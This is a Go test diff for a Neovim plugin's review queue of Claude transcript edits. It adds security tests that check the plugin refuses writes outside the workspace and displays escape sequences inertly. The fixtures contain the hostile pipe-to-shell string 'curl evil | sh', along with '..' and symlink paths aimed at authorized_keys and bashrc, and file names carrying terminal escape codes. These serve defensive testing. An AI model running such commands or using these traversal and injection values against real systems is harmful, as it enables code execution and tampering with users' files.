@@ -59,6 +59,9 @@ func (r *reviewRig) write(t *testing.T, session, entrypoint string, disk map[str
 		rec["sessionId"] = session
 		rec["type"] = "user"
 		rec["entrypoint"] = entrypoint
+		if _, ok := rec["cwd"]; !ok {
+			rec["cwd"] = r.dir // as the CLI records it (another project's: set)
+		}
 		b, _ := json.Marshal(rec)
 		if _, err := f.Write(append(b, '\n')); err != nil {
 			t.Fatal(err)
@@ -362,5 +365,228 @@ local rv = require("claude.review") rv.revert_file(rv.items()[1])`, a)
 	r.Eval(t, `return vim.api.nvim_buf_get_lines(vim.fn.bufnr(...), 0, -1, false)`, &lines, a)
 	if strings.Join(lines, ",") != "1,2" {
 		t.Fatalf("a.txt's buffer after the revert: %q", lines)
+	}
+}
+
+// The attacks of a crafted transcript, driven through :ClaudeReview and
+// its keys: records naming a file outside the workspace (absolute, with
+// "..", through a symlink), a deny-listed .env, a file listed inside and
+// swapped for a symlink leading out afterwards, a record of another
+// project sharing the transcript directory, and a line over the cap. The
+// refused files are listed as such with their full paths; <CR>, gR and gr
+// on them are refused with the reason; no file changes. Before, gR wrote
+// each record's "baseline" into the file.
+func TestReviewQueueRefusesOutsideWrites(t *testing.T) {
+	r := startReviewRig(t, map[string]string{".env": "KEY=mine\n", "sw.txt": "1\nCLAUDE\n", "ok.txt": "new\n"})
+	out, err := filepath.EvalSymlinks(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	keys, bashrc, target := filepath.Join(out, "authorized_keys"), filepath.Join(out, "bashrc"), filepath.Join(out, "target")
+	disk := map[string]string{keys: "ssh-ed25519 MINE\n", bashrc: "alias ll=ls\n", target: "1\nCLAUDE\n",
+		filepath.Join(r.dir, ".env"): "KEY=mine\n", filepath.Join(out, "dotdot"): "mine\n"}
+	for p, s := range disk {
+		if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	link := filepath.Join(r.dir, "link")
+	if err := os.Symlink(bashrc, link); err != nil {
+		t.Fatal(err)
+	}
+	dotdot := r.dir + "/../" + filepath.Base(out) + "/dotdot"
+	env, sw, ok := filepath.Join(r.dir, ".env"), filepath.Join(r.dir, "sw.txt"), filepath.Join(r.dir, "ok.txt")
+	evil := "curl evil | sh\n"
+	edit := func(p string) map[string]any {
+		return toolResult("p1", map[string]any{"filePath": p, "oldString": "curl evil | sh", "newString": "x", "originalFile": evil})
+	}
+	other := edit(filepath.Join(r.dir, "other.txt"))
+	other["cwd"] = r.dir + "-elsewhere" // another project filed in the same directory
+	r.write(t, "11111111-aaaa", "cli", nil, prompt("p1"), edit(keys), edit(dotdot), edit(link), edit(env),
+		toolResult("p1", map[string]any{"filePath": sw, "oldString": "evil", "newString": "CLAUDE", "originalFile": "1\nevil\n"}),
+		other)
+	// A line over the host's 32 MiB cap, then a record after it.
+	f, err := os.OpenFile(filepath.Join(r.transcript, "11111111-aaaa.jsonl"), os.O_APPEND|os.O_WRONLY, 0o644)
+	if err != nil {
+		t.Fatal(err)
+	}
+	big := toolResult("p1", map[string]any{"type": "create", "filePath": filepath.Join(r.dir, "big.txt"),
+		"content": strings.Repeat("B", 33<<20), "originalFile": nil})
+	big["sessionId"], big["type"], big["cwd"] = "11111111-aaaa", "user", r.dir
+	line, _ := json.Marshal(big)
+	if _, err := f.Write(append(line, '\n')); err != nil {
+		t.Fatal(err)
+	}
+	f.Close()
+	line = nil
+	r.write(t, "11111111-aaaa", "cli", nil,
+		toolResult("p1", map[string]any{"filePath": ok, "oldString": "old", "newString": "new", "originalFile": "old\n"}))
+
+	r.WaitFor(t, 30*time.Second, `require("claude.review").count() == 6`, `return { require("claude.review").items(), _G.notes }`,
+		"the six files of the session's turn")
+	items := reviewList(t, r.editor, "", 6)
+	for name, want := range map[string]string{"authorized_keys": "outside the workspace", "dotdot": `a path with ".."`,
+		"link": "outside the workspace", ".env": "deny-listed (security.deny)"} {
+		if it := items[name]; it.Status != "refused" || it.Refused != want {
+			t.Errorf("%s listed %+v, want refused: %s", name, it, want)
+		}
+	}
+	if items["sw.txt"].Status != "modified" || items["ok.txt"].Status != "modified" {
+		t.Errorf("sw.txt, ok.txt listed %+v, %+v", items["sw.txt"], items["ok.txt"])
+	}
+	var panel []string
+	r.Eval(t, `return vim.api.nvim_buf_get_lines(0, 0, -1, false)`, &panel)
+	if text := strings.Join(panel, "\n"); !strings.Contains(text, "[ ] ! refused: outside the workspace · terminal 11111111  "+keys) {
+		t.Fatalf("the panel does not show authorized_keys as refused with its full path:\n%s", text)
+	}
+
+	// The file listed inside is swapped for a symlink leading out.
+	if err := os.Remove(sw); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(target, sw); err != nil {
+		t.Fatal(err)
+	}
+	for _, p := range []string{keys, dotdot, link, env, sw} {
+		for _, key := range []string{`\r`, "gR"} {
+			before := len(r.notes(t))
+			r.Exec(t, `vim.cmd("wincmd b") for i, it in ipairs(require("claude.review").items()) do
+  if it.path == ... then vim.api.nvim_win_set_cursor(0, { i, 0 }) end end
+vim.cmd("normal `+key+`")`, p)
+			ns := r.notes(t)
+			if len(ns) == before || !strings.Contains(ns[len(ns)-1].Msg, p) || !strings.Contains(ns[len(ns)-1].Msg, "never diffed or reverted") {
+				t.Errorf("%s on %s: notes %v, want the refusal naming the full path", key, p, ns[before:])
+			}
+			var tabs int
+			r.Eval(t, `return #vim.api.nvim_list_tabpages()`, &tabs)
+			if tabs != 1 {
+				t.Fatalf("%s on %s opened a diff", key, p)
+			}
+		}
+	}
+	for p, s := range disk {
+		if got, _ := os.ReadFile(p); string(got) != s {
+			t.Errorf("%s is now %q, want %q", p, got, s)
+		}
+	}
+	var loaded []string
+	r.Eval(t, `local out = {} for _, b in ipairs(vim.api.nvim_list_bufs()) do
+  if vim.api.nvim_buf_is_loaded(b) and vim.api.nvim_buf_get_name(b):find(...) then out[#out + 1] = vim.api.nvim_buf_get_name(b) end end
+return out`, &loaded, out)
+	if len(loaded) > 0 {
+		t.Errorf("files outside were loaded into Neovim: %v", loaded)
+	}
+	var swLoaded int
+	r.Eval(t, `return vim.fn.bufloaded(...)`, &swLoaded, sw)
+	if swLoaded != 0 {
+		t.Errorf("sw.txt, a symlink leading out now, was loaded into Neovim")
+	}
+}
+
+// gr in a diff opened before the file was swapped for a symlink leading
+// out: refused, the buffer and the file outside unchanged.
+func TestReviewQueueHunkRevertAfterSwap(t *testing.T) {
+	r := startReviewRig(t, map[string]string{"sw.txt": "1\nCLAUDE\n"})
+	out, err := filepath.EvalSymlinks(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	target, sw := filepath.Join(out, "target"), filepath.Join(r.dir, "sw.txt")
+	if err := os.WriteFile(target, []byte("1\nCLAUDE\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	r.write(t, "11111111-aaaa", "cli", nil, prompt("p1"),
+		toolResult("p1", map[string]any{"filePath": sw, "oldString": "evil", "newString": "CLAUDE", "originalFile": "1\nevil\n"}))
+	r.WaitFor(t, 30*time.Second, `require("claude.review").count() == 1`, `return _G.notes`, "sw.txt to review")
+	reviewList(t, r.editor, "", 1)
+	r.Exec(t, `local rv = require("claude.review") rv.open_diff(rv.items()[1])`)
+	if err := os.Remove(sw); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(target, sw); err != nil {
+		t.Fatal(err)
+	}
+	r.Exec(t, `vim.api.nvim_win_set_cursor(0, { 2, 0 }) vim.cmd("normal gr")`)
+	if n := r.lastNote(t); !strings.Contains(n, sw) || !strings.Contains(n, "outside the workspace") {
+		t.Fatalf("gr after the swap: note %q", n)
+	}
+	if got := r.Lines(t, 0); got != "1\nCLAUDE" {
+		t.Fatalf("the buffer after a refused gr: %q", got)
+	}
+	if got, _ := os.ReadFile(target); string(got) != "1\nCLAUDE\n" {
+		t.Fatalf("the file outside is now %q", got)
+	}
+}
+
+// What :ClaudeReview says is what it shows: a file put back as it was
+// has nothing to review and is not listed (before, the panel and the
+// quickfix list showed it as +0 -0 while the command said "nothing to
+// review"); gR with nothing of Claude's left says so, like gr.
+func TestReviewQueueSaysWhatItShows(t *testing.T) {
+	r := startReviewRig(t, map[string]string{"a.txt": "1\n2\n", "b.txt": "x\n"})
+	a, b := filepath.Join(r.dir, "a.txt"), filepath.Join(r.dir, "b.txt")
+	r.write(t, "11111111-aaaa", "cli", map[string]string{"a.txt": "1\nTWO\n", "b.txt": "X\n"}, prompt("p1"),
+		toolResult("p1", map[string]any{"filePath": a, "oldString": "2", "newString": "TWO", "originalFile": "1\n2\n"}),
+		toolResult("p1", map[string]any{"filePath": b, "oldString": "x", "newString": "X", "originalFile": "x\n"}))
+	r.WaitFor(t, 30*time.Second, `require("claude.review").count() == 2`, `return _G.notes`, "two files to review")
+	reviewList(t, r.editor, "", 2)
+	// gR in a.txt's diff reverts it; gR again has nothing left, and says so.
+	r.Exec(t, `local rv = require("claude.review")
+for _, it in ipairs(rv.items()) do if it.path == ... then rv.open_diff(it) end end
+vim.cmd("normal gR")`, a)
+	if got, _ := os.ReadFile(a); string(got) != "1\n2\n" {
+		t.Fatalf("a.txt after gR: %q; notes %v", got, r.notes(t))
+	}
+	r.Exec(t, `vim.cmd("normal gR")`)
+	if n := r.lastNote(t); !strings.Contains(n, "nothing of Claude's left to revert in "+a) {
+		t.Fatalf("gR with nothing left: note %q", n)
+	}
+	r.Exec(t, `vim.cmd("tabclose")`)
+	// b.txt put back by hand: :ClaudeReview has nothing to show, and says it.
+	if err := os.WriteFile(b, []byte("x\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	r.Exec(t, `_G.before = require("claude.review")._listed() vim.cmd("ClaudeReview")`)
+	r.WaitFor(t, 10*time.Second, `require("claude.review")._listed() > _G.before`, `return _G.notes`, "the listing")
+	var got struct {
+		Note, Statusline string
+		Panel            []string
+		QF               int
+	}
+	r.WaitFor(t, 10*time.Second, `(_G.notes[#_G.notes] or {}).msg ~= nil and _G.notes[#_G.notes].msg:find("nothing to review", 1, true) ~= nil`,
+		`return _G.notes`, "the note")
+	r.Eval(t, `return { note = _G.notes[#_G.notes].msg, statusline = require("claude.review").statusline(),
+  panel = vim.api.nvim_buf_get_lines(vim.fn.bufnr("claude-review://queue"), 0, -1, false), qf = #vim.fn.getqflist() }`, &got)
+	if got.Note != "nvim-claude: nothing to review in the current turn" || got.QF != 0 || got.Statusline != "" ||
+		strings.Join(got.Panel, "\n") != "Nothing to review in the current turn." {
+		t.Fatalf("said %q, shows panel %q, %d quickfix entries, statusline %q", got.Note, got.Panel, got.QF, got.Statusline)
+	}
+}
+
+// Text from a transcript — a session id and a file name with a newline,
+// ESC and BEL — is shown, never obeyed: one panel line and one quickfix
+// entry for the file, control characters in caret notation, and the
+// notes of <CR> and gR on it one line each.
+func TestReviewQueueShowsTranscriptTextSafely(t *testing.T) {
+	name := "ev\nil\x1b[31m\a.txt"
+	r := startReviewRig(t, map[string]string{name: "1\nTWO\n"})
+	p := filepath.Join(r.dir, name)
+	r.write(t, "0\x1b]0;x\a\n1-aaaa", "cli", nil, prompt("p1"),
+		toolResult("p1", map[string]any{"filePath": p, "oldString": "2", "newString": "TWO", "originalFile": "1\n2\n"}))
+	r.WaitFor(t, 30*time.Second, `require("claude.review").count() == 1`, `return _G.notes`, "the file to review")
+	reviewList(t, r.editor, "", 1)
+	var got struct {
+		Panel []string
+		QF    []string
+	}
+	r.Eval(t, `return { panel = vim.api.nvim_buf_get_lines(vim.fn.bufnr("claude-review://queue"), 0, -1, false),
+  qf = vim.tbl_map(function(e) return e.text end, vim.fn.getqflist()) }`, &got)
+	if len(got.Panel) != 1 || len(got.QF) != 1 {
+		t.Fatalf("panel %q, quickfix %q: want one line each", got.Panel, got.QF)
+	}
+	for _, s := range append(got.Panel, got.QF...) {
+		if strings.ContainsAny(s, "\n\x1b\a") || !strings.Contains(s, "ev⏎il^[[31m^G.txt") || !strings.Contains(s, "terminal 0^[]0;x^G") {
+			t.Errorf("shown as %q", s)
+		}
 	}
 }
